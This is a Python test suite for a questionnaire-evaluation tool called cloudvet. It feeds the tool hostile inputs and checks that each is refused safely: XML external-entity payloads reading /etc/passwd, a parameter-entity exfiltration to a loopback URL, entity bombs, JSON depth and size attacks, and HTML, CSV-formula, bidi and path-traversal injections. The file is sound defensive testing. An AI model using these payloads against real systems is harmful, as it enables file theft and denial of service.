# SPDX-License-Identifier: MIT
"""Hostile inputs, one test per attack (SECURITY.md lists them).

Each attack is evaluated in one run together with a good submission
(samples/01), and the test checks the hostile file's expected outcome (an
`invalid` verdict with a clear diagnostic, or a safe evaluation), that the
good submission is still evaluated and qualified, that nothing took longer
than it may, and, under strace, that no file outside the run was read and
no network socket was opened.

Attacks marked @corpus read third-party files from outside the repository
(TESTDATA_DIR, CMake's CV_TESTDATA_DIR): when that folder is absent they
exit 77, which CTest reports as skipped, and say why.

usage: test_hostile.py CLOUDVET SRC_DIR ATTACK [TESTDATA_DIR]
       test_hostile.py --list | --list-corpus"""
import glob
import html.parser as html_parser
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import zipfile

ATTACKS = {}
CORPUS_ATTACKS = {}  # name -> the folder of TESTDATA_DIR it reads
SKIP = 77            # CTest's SKIP_RETURN_CODE for these tests
AS_OF = "2026-11-21"
FORMATS = ["report.csv", "report.html", "report.json", "report.md",
           "report.xlsx"]


def attack(fn):
    ATTACKS[fn.__name__] = fn
    return fn


def corpus_attack(folder):
    """An attack that needs TESTDATA_DIR/folder."""
    def mark(fn):
        CORPUS_ATTACKS[fn.__name__] = folder
        return attack(fn)
    return mark


class Run:
    def __init__(self, code, out_dir, stdout, stderr, seconds, trace):
        self.code = code
        self.out_dir = out_dir
        self.stdout = stdout
        self.stderr = stderr
        self.seconds = seconds
        self.trace = trace
        path = os.path.join(out_dir, "report.json")
        self.report = None
        if os.path.exists(path):
            with open(path, encoding="utf-8") as f:
                self.report = json.load(f)

    def sub(self, name):
        for s in self.report["submissions"]:
            if os.path.basename(s["file"]) == name:
                return s
        return None


class Case:
    def __init__(self, cloudvet, src, tmp, testdata=None):
        self.cloudvet = cloudvet
        self.src = src
        self.testdata = testdata
        self.tmp = tmp
        self.passed = 0
        self.failed = 0
        self.good = os.path.join(tmp, "good.json")
        shutil.copy(os.path.join(src, "samples/01-qualified-sakura.json"),
                    self.good)
        self.canary = os.path.join(tmp, "canary-secret.txt")
        with open(self.canary, "w") as f:
            f.write("CANARY-7f3a9c\n")
        # XDG_DATA_HOME: no registry snapshot of the user's is read.
        self.env = dict(os.environ,
                        CLOUDVET_CRITERIA=os.path.join(src, "criteria"),
                        XDG_DATA_HOME=os.path.join(tmp, "xdg"))

    def check(self, cond, what):
        if cond:
            self.passed += 1
        else:
            self.failed += 1
            print("check failed: " + what, file=sys.stderr)

    def path(self, name):
        return os.path.join(self.tmp, name)

    def write(self, name, data):
        mode = "wb" if isinstance(data, bytes) else "w"
        with open(self.path(name), mode) as f:
            f.write(data)
        return self.path(name)

    def run(self, inputs, *extra, formats="json", command="evaluate",
            out=None, trace=True, preexec=None, user=None):
        """Runs cloudvet (traced by strace when it is installed)."""
        out = out or tempfile.mkdtemp(dir=self.tmp, prefix="out-")
        argv = [self.cloudvet, "--lang", "en", command]
        if command == "evaluate":
            argv += ["--as-of", AS_OF, "--format", formats, "--out", out]
        argv += list(extra) + list(inputs)
        trace_file = None
        if user is not None:
            argv = ["setpriv", f"--reuid={user}", f"--regid={user}",
                    "--clear-groups"] + argv
        start = time.monotonic()
        proc = subprocess.run(argv, env=self.env, capture_output=True,
                              preexec_fn=preexec, timeout=120)
        seconds = time.monotonic() - start
        if trace and shutil.which("strace"):
            trace_file = os.path.join(self.tmp, "strace.txt")
            subprocess.run(["strace", "-f", "-qq", "-o", trace_file, "-e",
                            "trace=open,openat,connect,socket"] + argv,
                           env=self.env, capture_output=True, timeout=120)
            with open(trace_file, encoding="utf-8", errors="replace") as f:
                trace_file = f.read()
        return Run(proc.returncode, out, proc.stdout, proc.stderr, seconds,
                   trace_file)

    # ---- shared expectations ----

    def expect_invalid(self, run, name, *words):
        s = run.sub(name)
        self.check(s is not None, f"{name} is in the report")
        if s is None:
            return
        msgs = " | ".join(d["message"] for d in s["diagnostics"])
        self.check(s["verdict"] == "invalid",
                   f"{name}: verdict invalid, got {s['verdict']} ({msgs})")
        for w in words:
            self.check(w.lower() in msgs.lower(),
                       f"{name}: a diagnostic says '{w}' ({msgs[:300]})")
        self.check(all(d["location"] for d in s["diagnostics"]),
                   f"{name}: every diagnostic has a location")

    def expect_good_evaluated(self, run):
        self.check(run.report is not None, "the report was written")
        if run.report is None:
            return
        s = run.sub("good.json")
        self.check(s is not None and s["verdict"] == "qualified",
                   "the good submission of the same run is still evaluated")

    def expect_fast(self, run, seconds=1.0):
        self.check(run.seconds < seconds,
                   f"took {run.seconds:.2f} s, must be under {seconds} s")

    def expect_no_escape(self, run):
        """Under strace: no canary or system file read, no network."""
        if run.trace is None:
            print("note: strace not installed; file/network checks skipped",
                  file=sys.stderr)
            return
        for secret in (self.canary, "/etc/passwd", "/etc/shadow"):
            self.check(f'"{secret}"' not in run.trace,
                       f"no process opened {secret}")
        inet = [ln for ln in run.trace.splitlines()
                if "AF_INET" in ln or "connect(" in ln]
        self.check(not inet, f"no network socket was opened ({inet[:2]})")
        with open(os.path.join(run.out_dir, "report.json"), "rb") as f:
            self.check(b"CANARY" not in f.read(),
                       "the canary's content is not in the report")


# ---- XML ----

def xml_doc(doctype, body="<questionnaire/>"):
    return '<?xml version="1.0"?>\n' + doctype + "\n" + body + "\n"


# Third-party XML attack files (TESTDATA_DIR/xml-attacks), each with the
# attack it is a form of; the inline attacks above each test stand alone.
XML_CORPUS = ["defusedxml/external_file.xml",
              "payloadsallthethings/classic-xxe-etc-passwd.xml",
              "defusedxml/xmlbomb.xml", "defusedxml/xmlbomb2.xml",
              "defusedxml/cyclic.xml",
              "payloadsallthethings/billion-laugh.xml",
              "defusedxml/quadratic.xml", "defusedxml/dtd.xml",
              "defusedxml/external.xml"]


@attack
def xml_external_entity_file(case):
    files = [case.write("xxe-canary.xml", xml_doc(
        f'<!DOCTYPE q [<!ENTITY x SYSTEM "file://{case.canary}">]>',
        "<questionnaire><vendor><name>&x;</name></vendor></questionnaire>")),
        case.write("xxe-passwd.xml", xml_doc(
            '<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            "<questionnaire><vendor><name>&x;</name></vendor>"
            "</questionnaire>"))]
    run = case.run([case.good] + files)
    for f in files:
        case.expect_invalid(run, os.path.basename(f), "DOCTYPE")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    case.expect_no_escape(run)


@attack
def xml_parameter_entities(case):
    f = case.write("param-entities.xml", xml_doc(
        f'<!DOCTYPE q [<!ENTITY % file SYSTEM "file://{case.canary}">'
        '<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '
        "'http://127.0.0.1:9/?x=%file;'>\"> %eval; %exfil;]>"))
    run = case.run([case.good, f])
    case.expect_invalid(run, "param-entities.xml", "DOCTYPE")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    case.expect_no_escape(run)


@attack
def xml_billion_laughs(case):
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in
        range(1, 10)]
    f = case.write("billion-laughs.xml", xml_doc(
        "<!DOCTYPE q [" + "".join(lol) + "]>",
        "<questionnaire><vendor><name>&lol9;</name></vendor>"
        "</questionnaire>"))
    files = [f]
    run = case.run([case.good] + files)
    for x in files:
        case.expect_invalid(run, os.path.basename(x), "DOCTYPE")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    case.check(peak < 512 * 1024, f"peak memory {peak // 1024} MiB stays small")


@attack
def xml_quadratic_blowup(case):
    entity = "A" * 100000
    f = case.write("quadratic.xml", xml_doc(
        f'<!DOCTYPE q [<!ENTITY a "{entity}">]>',
        "<questionnaire><vendor><name>" + "&a;" * 20000 +
        "</name></vendor></questionnaire>"))
    files = [f]
    run = case.run([case.good] + files)
    for x in files:
        case.expect_invalid(run, os.path.basename(x), "DOCTYPE")
    case.expect_good_evaluated(run)
    case.expect_fast(run)


@attack
def xml_dtd_network_fetch(case):
    # A listener on loopback: a fetch of the DTD would connect to it.
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.settimeout(0.5)
    port = srv.getsockname()[1]
    files = [case.write("dtd-fetch.xml", xml_doc(
        f'<!DOCTYPE questionnaire SYSTEM "http://127.0.0.1:{port}/q.dtd">')),
        case.write("dtd-public.xml", xml_doc(
            '<!DOCTYPE questionnaire PUBLIC "-//X//DTD Q//EN" '
            f'"http://127.0.0.1:{port}/p.dtd">')),
        case.write("xinclude.xml",
                   '<?xml version="1.0"?>\n<questionnaire xmlns:xi='
                   '"http://www.w3.org/2001/XInclude"><xi:include href="'
                   f'http://127.0.0.1:{port}/x.xml"/></questionnaire>\n')]
    run = case.run([case.good] + files)
    try:
        conn, _ = srv.accept()
        conn.close()
        connected = True
    except socket.timeout:
        connected = False
    srv.close()
    case.check(not connected, "no connection reached the loopback listener")
    for x in files[:2] + files[3:]:
        case.expect_invalid(run, os.path.basename(x), "DOCTYPE")
    inc = run.sub("xinclude.xml")
    case.check(inc is not None and inc["verdict"] == "invalid",
               "an XInclude is not followed (the document stays empty)")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    case.expect_no_escape(run)


@corpus_attack("xml-attacks")
def xml_attack_corpus(case):
    """The defusedxml and PayloadsAllTheThings files: external entities,
    entity bombs, quadratic blowup, external DTDs. Every one is refused
    at its DOCTYPE, quickly, with nothing read or fetched."""
    base = os.path.join(case.testdata, "xml-attacks")
    files = []
    for n in XML_CORPUS:
        p = os.path.join(base, n)
        case.check(os.path.isfile(p), f"the corpus has {n}")
        if os.path.isfile(p):
            # a flat name per file: the report names inputs by file name
            with open(p, "rb") as f:
                files.append(case.write(n.replace("/", "-"), f.read()))
    run = case.run([case.good] + files)
    for x in files:
        case.expect_invalid(run, os.path.basename(x), "DOCTYPE")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    case.expect_no_escape(run)


@attack
def xml_huge_attribute(case):
    f = case.write("huge-attribute.xml",
                   '<?xml version="1.0"?>\n<questionnaire a="' +
                   "x" * (12 << 20) + '"><format>cloudvet-questionnaire/1'
                   "</format></questionnaire>\n")
    run = case.run([case.good, f])
    case.expect_invalid(run, "huge-attribute.xml")
    case.expect_good_evaluated(run)
    case.expect_fast(run, 2.0)


@attack
def xml_deep_nesting(case):
    depth = 100000
    f = case.write("deep.xml", '<?xml version="1.0"?>\n<questionnaire>' +
                   "<a>" * depth + "</a>" * depth + "</questionnaire>\n")
    run = case.run([case.good, f])
    case.expect_invalid(run, "deep.xml")
    case.expect_good_evaluated(run)
    case.expect_fast(run)


# ---- JSON ----

@attack
def json_deep_nesting(case):
    files = [case.write("deep-arrays.json", "[" * 100000 + "]" * 100000),
             case.write("deep-objects.json",
                        '{"a":' * 100000 + "1" + "}" * 100000),
             case.write("deep-within-limit.json",
                        '{"format":"cloudvet-questionnaire/1","x":' +
                        "[" * 1000 + "]" * 1000 + "}")]
    run = case.run([case.good] + files)
    case.expect_invalid(run, "deep-arrays.json", "depth")
    case.expect_invalid(run, "deep-objects.json", "depth")
    case.expect_invalid(run, "deep-within-limit.json", "max_depth")
    case.expect_good_evaluated(run)
    case.expect_fast(run)


@attack
def json_huge_numbers(case):
    doc = json.load(open(case.good, encoding="utf-8"))
    text = json.dumps(doc, ensure_ascii=False)
    files = [
        case.write("huge-exponent.json", text.replace(
            '"availability_percent": 99.95', '"availability_percent": 1e999999')),
        case.write("huge-integer.json", text.replace(
            '"rto_hours": 4', '"rto_hours": ' + "9" * 100000)),
        case.write("tiny-exponent.json", text.replace(
            '"availability_percent": 99.95',
            '"availability_percent": 1e-999999'))]
    run = case.run([case.good] + files)
    case.expect_invalid(run, "huge-exponent.json", "overflow")
    case.expect_invalid(run, "huge-integer.json", "too big")
    tiny = run.sub("tiny-exponent.json")
    case.check(tiny is not None and tiny["verdict"] != "invalid",
               "a number that underflows to 0 is evaluated safely")
    case.expect_good_evaluated(run)
    case.expect_fast(run)


@attack
def json_duplicate_keys(case):
    text = open(case.good, encoding="utf-8").read()
    f = case.write("duplicate-keys.json", text.replace(
        '"format": "cloudvet-questionnaire/1",',
        '"format": "cloudvet-questionnaire/1", "format": "x",', 1))
    run = case.run([case.good, f])
    case.expect_invalid(run, "duplicate-keys.json", "duplicate")
    case.expect_good_evaluated(run)


@attack
def json_invalid_utf8(case):
    base = open(case.good, "rb").read()
    cases = {"utf8-bad-byte.json": b"\xff",
             "utf8-overlong.json": b"\xc0\xaf",
             "utf8-surrogate.json": b"\xed\xa0\x80",
             "utf8-truncated.json": b"\xe6\x97"}
    files = [case.write(n, base.replace("株式会社".encode(), b"A" + bad, 1))
             for n, bad in cases.items()]
    run = case.run([case.good] + files)
    for n in cases:
        case.expect_invalid(run, n, "decode")
    case.expect_good_evaluated(run)
    try:
        run.stderr.decode("utf-8")
        valid = True
    except UnicodeDecodeError:
        valid = False
    case.check(valid, "the diagnostics on stderr are valid UTF-8")


@attack
def json_nul_bytes_in_strings(case):
    base = open(case.good, "rb").read()
    files = [case.write("nul-escaped.json",
                        base.replace("株式会社".encode(), b"A\\u0000B", 1)),
             case.write("nul-raw.json",
                        base.replace("株式会社".encode(), b"A\x00B", 1))]
    run = case.run([case.good] + files)
    case.expect_invalid(run, "nul-escaped.json", "\\u0000")
    case.expect_invalid(run, "nul-raw.json")
    case.expect_good_evaluated(run)


@attack
def json_200mb_file(case):
    big = case.path("big.json")
    with open(big, "wb") as f:
        f.write(b'{"format": "cloudvet-questionnaire/1", "x": "')
        f.truncate(200 << 20)  # sparse: 200 MB without using the disk
    run = case.run([case.good, big], trace=False)
    case.expect_invalid(run, "big.json", "max_input_bytes")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    case.check(peak < 128 * 1024,
               f"the file is refused without reading it ({peak // 1024} MiB)")


@attack
def json_empty_file(case):
    files = [case.write("empty.json", ""), case.write("blank.json", " \n\t\n")]
    run = case.run([case.good] + files)
    case.expect_invalid(run, "empty.json", "empty")
    case.expect_invalid(run, "blank.json", "empty")
    case.expect_good_evaluated(run)


@attack
def input_directory(case):
    d = case.path("inbox")
    os.mkdir(d)
    shutil.copy(case.good, os.path.join(d, "good.json"))
    os.mkdir(os.path.join(d, "looks-like.json"))  # a directory named .json
    os.symlink("/etc", os.path.join(d, "etc-link.json"))
    run = case.run([d])
    case.expect_good_evaluated(run)
    names = sorted(os.path.basename(s["file"])
                   for s in run.report["submissions"])
    case.check("looks-like.json" not in names or
               run.sub("looks-like.json")["verdict"] == "invalid",
               "a directory named .json is never read as a submission")
    link = run.sub("etc-link.json")
    case.check(link is None or link["verdict"] == "invalid",
               "a symlink to a directory is not followed as a submission")
    run = case.run([os.path.join(d, "looks-like.json")], command="check")
    case.check(run.code == 2, f"check on an empty directory: exit 2 "
               f"({run.code})")


@attack
def input_fifo(case):
    fifo = case.path("fifo.json")
    os.mkfifo(fifo)
    run = case.run([case.good, fifo])  # a blocking open would hang here
    case.expect_invalid(run, "fifo.json", "regular file")
    case.expect_good_evaluated(run)
    case.expect_fast(run)
    run = case.run([fifo], command="check")
    case.check(run.code == 2 and b"regular file" in run.stdout + run.stderr,
               "check on a FIFO: exit 2 with a diagnostic")


@corpus_attack("jsontestsuite")
def json_test_suite(case):
    """JSONTestSuite: y_ accepted, n_ rejected with a syntax diagnostic;
    none crashes. Deliberate refusals of valid JSON: duplicate keys and
    NUL in strings (SECURITY.md)."""
    base = os.path.join(case.testdata, "jsontestsuite", "test_parsing")
    refused = {"y_object_duplicated_key.json",
               "y_object_duplicated_key_and_value.json",
               "y_object_escaped_null_in_key.json",
               "y_string_null_escape.json"}
    run = case.run([base], trace=False)
    case.check(run.code == 3, f"exit 3, got {run.code}")
    subs = run.report["submissions"]
    case.check(len(subs) == len([f for f in os.listdir(base)
                                 if f.endswith(".json")]),
               "every file of the suite is in the report")
    for s in subs:
        name = os.path.basename(s["file"])
        syntax = any(d["message"].startswith(("not valid JSON", "limit exceeded",
                                              "not well-formed XML",
                                              "the file is empty"))
                     for d in s["diagnostics"])
        if name.startswith("y_") and name not in refused:
            case.check(not syntax, f"{name} is accepted as JSON")
        if name.startswith("n_") or name in refused:
            case.check(syntax and s["verdict"] == "invalid",
                       f"{name} is rejected with a syntax diagnostic")


# ---- report injection ----

def hostile_report(case, formats="json,html,csv,md,xlsx"):
    inj = os.path.join(case.src, "tests/data/hostile/injection.json")
    return case.run([case.good, inj], formats=formats, trace=False)


def report_bytes(run, name):
    with open(os.path.join(run.out_dir, name), "rb") as f:
        return f.read()


def xlsx_strings(run):
    """(the workbook's strings as XML, xl/workbook.xml). The strings are in
    the sheets' cells (inlineStr, constant_memory mode) or in a shared
    table: both are taken."""
    with zipfile.ZipFile(os.path.join(run.out_dir, "report.xlsx")) as z:
        parts = [n for n in z.namelist() if n == "xl/sharedStrings.xml" or
                 n.startswith("xl/worksheets/sheet")]
        return ("".join(z.read(n).decode("utf-8") for n in parts),
                z.read("xl/workbook.xml").decode("utf-8"))


@attack
def report_html_js_injection(case):
    run = hostile_report(case)
    html = report_bytes(run, "report.html").decode("utf-8")
    case.check("<script" not in html.lower(), "no <script> in report.html")
    handlers = []

    class Attrs(html_parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            handlers.extend(k for k, _ in attrs if k.startswith("on"))
    Attrs().feed(html)
    case.check(not handlers, f"no event handler attribute ({handlers[:3]})")
    case.check("&lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt;"
               in html, "the vendor's markup is escaped as text")
    case.check('href="javascript:' not in html, "no javascript: link")
    case.check("Content-Security-Policy" in html and "default-src 'none'"
               in html, "a CSP forbids scripts even if escaping failed")
    md = report_bytes(run, "report.md").decode("utf-8")
    case.check("<script>" not in md.replace("\\<script\\>", ""),
               "no raw HTML in report.md")
    shared, _ = xlsx_strings(run)
    case.check("<script>" not in shared, "XML-escaped in report.xlsx")
    case.expect_good_evaluated(run)


@attack
def report_csv_formula_prefixes(case):
    run = hostile_report(case, "json,csv,xlsx")
    text = report_bytes(run, "report.csv").decode("utf-8-sig")
    import csv
    import io
    rows = list(csv.reader(io.StringIO(text, newline="")))
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    bad = [c for r in rows for c in r if c.startswith(starts)]
    case.check(not bad, f"no CSV cell starts a formula ({bad[:3]})")
    case.check(any(c.startswith("'=HYPERLINK") for r in rows for c in r),
               "the formula is kept as text behind an apostrophe")
    with zipfile.ZipFile(os.path.join(run.out_dir, "report.xlsx")) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        formulas = [n for n in sheets if b"<f>" in z.read(n)]
    case.check(not formulas, f"no formula cell in report.xlsx ({formulas})")


def shown_to_people(run):
    """(name, bytes) of each human format; for XLSX its strings. report.json
    is data for programs: it carries the text as given, JSON-escaped."""
    for name in FORMATS:
        if name == "report.json":
            continue
        if name == "report.xlsx":
            yield name, "".join(xlsx_strings(run)).encode()
        else:
            yield name, report_bytes(run, name)


@attack
def report_control_characters(case):
    run = hostile_report(case)
    for name, data in shown_to_people(run):
        bad = [hex(b) for b in set(data) if b < 0x20 and b not in
               (0x09, 0x0a, 0x0d)]
        case.check(not bad, f"{name}: no control characters ({bad})")
    inj = os.path.join(case.src, "tests/data/hostile/injection.json")
    chk = case.run([inj], command="check", trace=False)
    out = chk.stdout + chk.stderr
    case.check(b"\x1b" not in out and b"\x07" not in out,
               "the terminal output of check has no ESC or BEL")


@attack
def report_bidi_override_in_names(case):
    run = hostile_report(case)
    for name, data in shown_to_people(run):
        case.check("\u202e".encode() not in data,
                   f"{name}: U+202E is not passed through")
        case.check(b"U+202E" in data, f"{name}: U+202E is shown")
    inj = os.path.join(case.src, "tests/data/hostile/injection.json")
    chk = case.run([inj], command="check", trace=False)
    case.check("\u202e".encode() not in chk.stdout + chk.stderr,
               "the terminal output does not pass U+202E through")


@attack
def report_path_separators_in_names(case):
    doc = json.load(open(case.good, encoding="utf-8"))
    target = os.path.join(case.tmp, "escaped")
    doc["vendor"]["name"] = "../../../../.." + target + "/x"
    doc["service"]["name"] = "a/b\\c:d*e?f[g]h" + "/.." * 20
    f = case.write("..%2f..%2fpwn.json", json.dumps(doc, ensure_ascii=False))
    run = case.run([case.good, f], formats="json,html,csv,md,xlsx",
                   trace=False)
    case.check(sorted(os.listdir(run.out_dir)) ==
               sorted(FORMATS + ["record.json"]),
               f"only the five reports and their record are written "
               f"({os.listdir(run.out_dir)})")
    case.check(not os.path.exists(target),
               "no file is created where a name points")
    _, workbook = xlsx_strings(run)
    import re
    names = re.findall(r'<sheet name="([^"]*)"', workbook)
    bad = [n for n in names if any(c in n for c in "/\\:*?[]")]
    case.check(names and not bad, f"sheet names hold no path or wildcard "
               f"characters ({bad})")
    case.expect_good_evaluated(run)


# ---- limits ----

@attack
def limit_input_size_configurable(case):
    run = case.run([case.good], "--max-input-bytes", "4K")
    case.expect_invalid(run, "good.json", "max_input_bytes")
    run = case.run([case.good], "--max-input-bytes", "1M")
    case.expect_good_evaluated(run)
    run = case.run([case.good], "--max-input-bytes", "0")
    case.check(run.code == 2, "--max-input-bytes 0 is a usage error")


@attack
def limit_depth_configurable(case):
    f = case.write("nested.json", '{"format":"cloudvet-questionnaire/1",'
                   '"x":' + "[" * 12 + "]" * 12 + "}")
    run = case.run([case.good, f], "--max-depth", "10")
    case.expect_invalid(run, "nested.json", "max_depth")
    case.expect_good_evaluated(run)
    run = case.run([case.good], "--max-depth", "3")
    case.expect_invalid(run, "good.json", "max_depth")
    run = case.run([case.good], "--max-depth", "100000")
    case.check(run.code == 2, "--max-depth above 2048 is a usage error")


# ---- nothing lost ----

def complete(path):
    """True when the report file at path is whole."""
    with open(path, "rb") as f:
        data = f.read()
    if path.endswith(".json"):
        try:
            json.loads(data)
            return True
        except ValueError:
            return False
    if path.endswith(".html"):
        return data.endswith(b"</html>\n")
    if path.endswith(".xlsx"):
        try:
            with zipfile.ZipFile(path) as z:
                return z.testzip() is None
        except zipfile.BadZipFile:
            return False
    return data.endswith(b"\n")


def batch(case, n):
    d = case.path(f"batch{n}")
    os.mkdir(d)
    samples = os.path.join(case.src, "samples")
    names = sorted(os.listdir(samples))
    # Hard links to copies beside d: a walk never follows a symlink.
    copies = case.path(f"batch{n}-src")
    shutil.copytree(samples, copies, dirs_exist_ok=True)
    for i in range(n):
        src = names[i % len(names)]
        os.link(os.path.join(copies, src), os.path.join(d, f"{i:04d}-{src}"))
    return d


@attack
def killed_run_leaves_no_truncated_report(case):
    out = case.path("reports")
    first = case.run([case.good], formats="json,html,csv,md,xlsx", out=out,
                     trace=False)
    case.check(first.code == 0, "a first complete report set")
    big = batch(case, 400)
    argv = [case.cloudvet, "evaluate", "--as-of", AS_OF, "--out", out, big]
    kills = 0
    for delay in [0.05 * i for i in range(1, 40)]:
        proc = subprocess.Popen(argv, env=case.env, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)
        time.sleep(delay)
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
            kills += 1
        proc.wait()
        for name in FORMATS:
            p = os.path.join(out, name)
            case.check(os.path.exists(p) and complete(p),
                       f"after kill -9 at {delay:.2f} s, {name} is whole")
        # One set, never a mix: every file is the one its record lists
        # (set_problems: attacks_publish.py); a killed run's staging
        # directory may wait beside it, never a file inside it.
        problems = set_problems(out)
        case.check(problems == [], f"after kill -9 at {delay:.2f} s, the "
                   f"set is whole by its record ({problems})")
    case.check(kills >= 5, f"the runs were killed mid-way ({kills} times)")
    case.check(sorted(os.listdir(out)) == sorted(FORMATS + ["record.json"]),
               f"nothing but the set is in the directory ({os.listdir(out)})")


NOBODY = 65534


def as_nobody(case):
    """Root ignores permissions, so the test runs cloudvet as nobody. The
    clone may sit in a folder nobody cannot enter (a 0700 home or mktemp
    -d), so the binary and the criteria are copied into the case's own
    folder first; if nobody still cannot load them (the temporary folder
    itself is private), the test is skipped. The probe loads the criteria:
    running the binary alone proves nothing, as exec can succeed where
    reading files does not."""
    os.chmod(case.tmp, 0o755)
    os.chmod(case.good, 0o644)
    exe = case.path("bin-cloudvet")
    shutil.copy2(case.cloudvet, exe)
    crit = case.path("criteria")
    shutil.copytree(os.path.join(case.src, "criteria"), crit)
    for root, dirs, files in os.walk(crit):
        for d in dirs:
            os.chmod(os.path.join(root, d), 0o755)
        for f in files:
            os.chmod(os.path.join(root, f), 0o644)
    os.chmod(crit, 0o755)
    case.cloudvet = exe
    case.env = dict(case.env, CLOUDVET_CRITERIA=crit)
    probe = subprocess.run(["setpriv", f"--reuid={NOBODY}",
                            f"--regid={NOBODY}", "--clear-groups", exe,
                            "template"], capture_output=True, env=case.env)
    if probe.returncode != 0:
        print(f"skipped: user nobody cannot load {exe} and its criteria (is {case.tmp} in a "
              f"folder nobody may not enter?): "
              f"{probe.stderr.decode(errors='replace')[-200:]}")
        sys.exit(SKIP)
    return NOBODY


@attack
def readonly_output_dir(case):
    out = case.path("readonly")
    os.mkdir(out)
    user = as_nobody(case) if os.geteuid() == 0 else None
    os.chmod(out, 0o555)
    run = case.run([case.good], formats="json,html,csv,md,xlsx", out=out,
                   trace=False, user=user)
    case.check(run.code == 5, f"exit 5 when the directory is read-only "
               f"({run.code}: {run.stderr[-300:]})")
    case.check(b"Permission denied" in run.stderr and
               out.encode() in run.stderr,
               "the error names the directory and the reason")
    case.check(os.listdir(out) == [], "nothing is left in the directory")


def small_file_limit():
    # Writes past 64 KiB fail with EFBIG, as on a full disk; ignoring
    # SIGXFSZ (inherited through exec) turns the signal into that error.
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 10, 64 << 10))


@attack
def full_output_disk(case):
    out = case.path("full")
    first = case.run([case.good], formats="json,html,csv,md,xlsx", out=out,
                     trace=False)
    before = {n: report_bytes(first, n) for n in FORMATS}
    run = case.run([os.path.join(case.src, "samples")],
                   formats="json,html,csv,md,xlsx", out=out, trace=False,
                   preexec=small_file_limit)
    # The formats that fit (report.md) are published, the others are
    # listed as failed with the reason (attacks_publish.py: one format's
    # failure never prevents the others), exit 7; where none fits, the
    # previous set is left untouched, exit 5.
    err = run.stderr.decode("utf-8", "replace")
    case.check(run.code in (5, 7), f"exit 5 or 7 when the disk is full "
               f"({run.code})")
    case.check("cannot write the report (File too large)" in err,
               "a clear error, with the reason: " + err[-300:])
    if run.code == 5:
        after = {n: report_bytes(first, n) for n in FORMATS}
        case.check(before == after, "the previous reports are left untouched")
    else:
        case.check(set_problems(out) == [], f"the new set is whole by its "
                   f"record ({set_problems(out)})")
        failed = record_of(out)["formats"]["failed"]
        # (XLSX's reason is libxlsxwriter's, in its own words.)
        case.check(failed and all("File too large" in f["reason"] or
                                  f["format"] == "xlsx" for f in failed),
                   f"the record says which failed and why ({failed})")
        for f in failed:
            case.check(f"/report.{f['format']}: cannot write the report" in
                       err, f"the error names report.{f['format']}")
    case.check(not [n for n in os.listdir(case.tmp)
                    if n.startswith(".full.new-")],
               f"no staging directory is left ({os.listdir(case.tmp)})")


# More attacks live in attacks_*.py beside this file, one file per area;
# they share this file's helpers and its one list of attacks.
for _extra in sorted(glob.glob(os.path.join(os.path.dirname(
        os.path.abspath(__file__)), "attacks_*.py"))):
    with open(_extra, encoding="utf-8") as _f:
        exec(compile(_f.read(), _extra, "exec"))  # noqa: S102


def main():
    if sys.argv[1:] == ["--list"]:
        print(";".join(ATTACKS))
        return 0
    if sys.argv[1:] == ["--list-corpus"]:
        print(";".join(CORPUS_ATTACKS))
        return 0
    cloudvet, src, name = sys.argv[1], os.path.abspath(sys.argv[2]), sys.argv[3]
    testdata = os.path.abspath(sys.argv[4]) if len(sys.argv) > 4 else None
    if name in CORPUS_ATTACKS:
        need = os.path.join(testdata or "", CORPUS_ATTACKS[name])
        if testdata is None or not os.path.isdir(need):
            print(f"skipped: the third-party corpus {need} is not here; it "
                  f"is optional (configure with -DCV_TESTDATA_DIR=DIR to "
                  f"run this test)")
            return SKIP
    with tempfile.TemporaryDirectory(prefix=f"cloudvet-{name}-") as tmp:
        case = Case(cloudvet, src, tmp, testdata)
        ATTACKS[name](case)
        # read-only directories must be writable again to be removed
        for root, dirs, _ in os.walk(tmp):
            for d in dirs:
                os.chmod(os.path.join(root, d), 0o755)
    print(f"{case.passed} passed, {case.failed} failed")
    if case.passed + case.failed == 0:
        print("no check ran: a test without a check fails", file=sys.stderr)
        return 1
    return 1 if case.failed else 0


if __name__ == "__main__":
    sys.exit(main())
